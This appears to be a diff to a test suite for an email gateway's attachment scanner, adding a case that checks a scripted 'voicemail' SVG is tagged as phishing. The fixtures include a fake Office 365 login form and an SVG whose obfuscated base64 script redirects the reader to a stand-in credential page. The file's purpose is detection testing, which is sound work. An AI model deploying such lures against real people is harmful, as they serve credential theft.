@@ -2,7 +2,8 @@
 // disguised as a PDF, a password-protected ZIP made by Info-ZIP, an ordinary PDF) through the
 // gateway. The program is refused with 554 5.7.1 naming the file and never reaches the backend;
 // the encrypted archive is relayed unchanged with ATTACH_ENCRYPTED_ARCHIVE; the PDF passes clean;
-// a login page attached as "Remittance.html" is tagged (ATTACH_RISKY + ATTACH_PHISH_PAGE); a Word
+// a login page attached as "Remittance.html" and an SVG picture that runs a script are tagged
+// (ATTACH_RISKY + ATTACH_PHISH_PAGE); a Word
 // document with macros is tagged (ATTACH_MACRO), and one with a packaged program is refused, as are a
 // disk image (genisoimage), a RAR archive and a 7-Zip archive (7zz) with a program in them; an RTF order with an Equation
 // Editor object is tagged (ATTACH_EXPLOIT), as is a zipped PDF that starts cmd.exe; a PDF that runs
@@ -107,7 +108,7 @@ describe('attachment types through the gateway', () => {
     assert.doesNotMatch(sink.messages.at(-1)!.raw.toString('latin1'), /ATTACH_/);
   });
 
-  test('an attached login page is tagged ATTACH_PHISH_PAGE; an HTML report is only risky', async () => {
+  test('an attached login page and a scripted SVG picture are tagged ATTACH_PHISH_PAGE; an HTML report is only risky', async () => {
     const page = '<!DOCTYPE html><html><body><form method="post" action="https://o365-verify.test/next.php"><p>Sign in to view the remittance.</p>'
       + '<input type="email" name="login"><input type="password" name="passwd"><button>Sign in</button></form></body></html>';
     assert.equal(await send('Remittance advice', Buffer.from(page), 'Remittance.html'), '250 accepted');
@@ -118,6 +119,15 @@ describe('attachment types through the gateway', () => {
       'ATTACH_RISKY: Remittance.html (.html)',
     ]);
     assert.match(sink.messages.at(-1)!.raw.toString('latin1'), /^Subject: \[SPAM\] Remittance advice/m);
+
+    // the "voicemail" SVG of 2024–2025 campaigns: a picture that sends the reader on by script
+    const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="600" height="400"><text y="40">Voicemail 00:42</text>'
+      + '<script><![CDATA[ window.location.href = atob("aHR0cHM6Ly9vMzY1LXZlcmlmeS50ZXN0Lw==") + "#carol@example.com"; ]]></script></svg>';
+    assert.equal(await send('Voicemail from +49 30 1234', Buffer.from(svg), 'VM_0042.svg'), '250 accepted');
+    assert.deepEqual((await logged('Voicemail from +49 30 1234')).symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => `${x.name}: ${x.detail}`), [
+      'ATTACH_PHISH_PAGE: VM_0042.svg (an SVG picture that runs a script)',
+      'ATTACH_RISKY: VM_0042.svg (.svg)',
+    ]);
 
     assert.equal(await send('Quarterly report', Buffer.from('<html><body><h1>Q3</h1><p>Revenue up 4 %.</p></body></html>'), 'Q3.html'), '250 accepted');
     assert.deepEqual((await logged('Quarterly report')).symbols.filter((x) => x.name.startsWith('ATTACH_')).map((x) => x.name), ['ATTACH_RISKY']);
